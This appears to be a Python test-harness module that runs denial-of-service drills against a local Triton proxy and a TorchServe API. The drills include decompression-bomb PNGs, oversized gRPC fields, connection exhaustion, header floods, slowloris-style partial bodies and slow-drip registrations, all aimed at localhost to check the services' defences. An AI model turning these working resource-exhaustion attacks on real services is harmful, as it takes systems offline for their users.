"""The attacks of drills.hostile (issue 42), each a function of a stop event that attacks until it is set and returns
what the attacker was answered: front (a), serve-repo's proxy; front (b), the TorchServe API."""
from __future__ import annotations

import io
import resource
import socket
import threading
import time
import urllib.error
import urllib.request
from collections import Counter

import numpy as np
import psutil

from common import names
from drills.faults import CRASHING_BODY, WRAPPING_BODY
from perf.serve import ServeRepo, TorchServeFront


def _post(port: int, path: str, body: bytes, timeout: float = 30) -> str:
    request = urllib.request.Request(f"http://127.0.0.1:{port}{path}", data=body, method="POST")
    try:
        with urllib.request.urlopen(request, timeout=timeout) as reply:
            return str(reply.status)
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read()[:60]!r}"
    except OSError as error:
        return type(error).__name__


def looped(send):
    """An attack that repeats `send()` until stopped, counting its answers."""
    def attack(stop: threading.Event) -> dict:
        answers = Counter()
        while not stop.is_set():
            answers[send()] += 1
        return {"answers": dict(answers)}
    return attack


# -- front (a): the proxy ------------------------------------------------------------------------------------------
def grpc_call(target: str, method: str, request, compression=None) -> str:
    import grpc

    with grpc.insecure_channel(target) as channel:
        call = channel.unary_unary(f"/inference.GRPCInferenceService/{method}",
                                   request_serializer=lambda m: m.SerializeToString(),
                                   response_deserializer=lambda data: data)
        try:
            call(request, timeout=30, compression=compression)
            return "OK"
        except grpc.RpcError as error:
            return f"{error.code().name} {(error.details() or '').split(':')[0]}"


def png16(pixels: int) -> bytes:
    from PIL import Image

    side = int(pixels ** 0.5)
    sink = io.BytesIO()
    Image.new("I;16", (side, side), 40000).save(sink, format="PNG")  # 95 KB of PNG, 98 MB of 16-bit pixels
    return sink.getvalue()


def proxy_attacks(serve: ServeRepo, model: str) -> dict:
    import grpc
    import tritonclient.http as httpclient
    from tritonclient.grpc import service_pb2 as pb

    http_port, grpc_target = serve.ports[0], f"127.0.0.1:{serve.ports[1]}"
    big = png16(49_000_000)

    def png_request() -> str:
        client = httpclient.InferenceServerClient(f"127.0.0.1:{http_port}", network_timeout=120)
        tensor = httpclient.InferInput("IMAGE_BYTES", [1, 1], "BYTES")
        tensor.set_data_from_numpy(np.array([[big]], dtype=object))
        try:
            client.infer(names.image_model(model), [tensor])
            return "200"
        except Exception as exc:  # noqa: BLE001
            return str(exc).splitlines()[0][:60]

    def long_version() -> str:
        request = pb.ModelInferRequest(model_name=model, model_version="9" * 4000)
        request.inputs.add(name="IMAGE", datatype="FP32", shape=[1, 3, 224, 224])
        request.raw_input_contents.append(b"\0" * 602112)
        return grpc_call(grpc_target, "ModelInfer", request)

    def crashing() -> str:
        time.sleep(0.1)
        return _post(http_port, f"/v2/models/{model}/infer", CRASHING_BODY if time.time() % 2 < 1 else WRAPPING_BODY)

    def connections(stop: threading.Event) -> dict:
        held, refused = [], 0
        soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        while not stop.is_set() and len(held) < min(hard - 200, 4000):
            sock = socket.socket()
            try:
                sock.bind(("127.0.0.2", 0))
                sock.connect(("127.0.0.1", http_port))
                held.append(sock)
            except OSError:
                sock.close()
                refused += 1
                break
        stop.wait(1)
        open_ones = []
        for sock in held:  # HAProxy accepts, then closes those over the per-client bound
            sock.setblocking(False)
            try:
                open_ones.append(sock.recv(1) != b"")
            except BlockingIOError:
                open_ones.append(True)
            except OSError:
                open_ones.append(False)
        stop.wait()
        for sock in held:
            sock.close()
        return {"connections_opened_from_one_address": len(held), "refused_at_connect": refused,
                "held_open_by_the_proxy": sum(open_ones)}

    return {"grpc_gzip_config_16mib_name": looped(lambda: grpc_call(
                grpc_target, "ModelConfig", pb.ModelConfigRequest(name="m" * (16 << 20)), grpc.Compression.Gzip)),
            "png16_49mp_x2": lambda stop: _parallel(looped(png_request), stop, 2),
            "versions_4000_digits": looped(long_version),
            "crashing_json_10_per_s": looped(crashing),
            "connections_from_one_address": connections}


def _parallel(attack, stop: threading.Event, count: int) -> dict:
    results = [{} for _ in range(count)]
    threads = [threading.Thread(target=lambda i=i: results[i].update(attack(stop)), daemon=True) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    total = Counter()
    for result in results:
        total.update(result.get("answers", {}))
    return {"answers": dict(total), "attackers": count}


# -- front (b): the TorchServe API ---------------------------------------------------------------------------------
def torchserve_attacks(front: TorchServeFront, model: str) -> dict:
    port = front.ports[0]

    def header_flood(stop: threading.Event) -> dict:
        answers = Counter()
        line = b"X-Flood: " + b"a" * 1000 + b"\r\n"
        while not stop.is_set():
            with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
                sock.sendall(f"POST /predictions/{model} HTTP/1.1\r\nHost: x\r\n".encode())
                try:
                    while not stop.is_set():
                        sock.sendall(line * 64)
                except OSError:
                    pass
                try:
                    answers[sock.recv(64).split(b"\r\n")[0].decode(errors="replace") or "closed"] += 1
                except OSError as error:
                    answers[type(error).__name__] += 1
        return {"answers": dict(answers)}

    def partial_bodies(stop: threading.Event) -> dict:
        opened = Counter()
        socks: list = []
        while not stop.is_set():
            socks = [s for s in socks if s.fileno() != -1]
            while len(socks) < 6:
                sock = socket.create_connection(("127.0.0.1", port), timeout=30)
                sock.sendall(f"POST /predictions/{model} HTTP/1.1\r\nHost: x\r\nContent-Length: 100000\r\n\r\n"
                             .encode() + b"0123456789")
                socks.append(sock)
                opened["connections"] += 1
            stop.wait(1)
            for sock in socks:  # the front cuts a body that stalls: open another
                sock.setblocking(False)
                try:
                    if sock.recv(1) == b"":
                        sock.close()
                        opened["cut_by_front"] += 1
                except BlockingIOError:
                    pass
                except OSError:
                    sock.close()
        for sock in socks:
            sock.close()
        return dict(opened)

    def triton_ports(stop: threading.Event) -> dict:
        """The aborting JSON request to every TCP port tritonserver listens on (TorchServe mode: its private ones)."""
        listening = sorted({c.laddr.port for c in psutil.Process(front.triton_pid).net_connections("tcp")
                            if c.status == psutil.CONN_LISTEN})
        answers = Counter()
        while not stop.wait(0.5):
            for listen in listening:
                answers[f"{listen}: {_post(listen, f'/v2/models/{model}/infer', WRAPPING_BODY)}"] += 1
        return {"tcp_ports_of_tritonserver": listening, "answers": dict(answers)}

    def dripping_registrations(stop: threading.Event) -> dict:
        """Ten registrations whose archive arrives a byte a second; the honest client keeps predicting."""
        import http.server

        class Drip(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                self.send_response(200)
                self.send_header("Content-Length", str(1 << 20))
                self.end_headers()
                while not stop.wait(1):
                    self.wfile.write(b"P")
                    self.wfile.flush()

            def log_message(self, *args):
                pass

        web = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Drip)
        threading.Thread(target=web.serve_forever, daemon=True).start()
        answers = Counter()

        def register(index: int) -> None:
            answers[_post(front.ports[1], f"/models?url=http://127.0.0.1:{web.server_port}/drip{index}.mar"
                                          "&synchronous=true", b"", timeout=120)] += 1

        threads = [threading.Thread(target=register, args=(i,), daemon=True) for i in range(10)]
        for thread in threads:
            thread.start()
        stop.wait()
        for thread in threads:
            thread.join(30)
        web.shutdown()
        return {"answers": dict(answers)}

    return {"dripping_registrations_10": dripping_registrations,
            "header_flood_4_connections": lambda stop: _parallel(lambda s: header_flood(s), stop, 4),
            "partial_bodies_6_connections": partial_bodies,
            "crashing_json_to_tritons_tcp_ports": triton_ports}
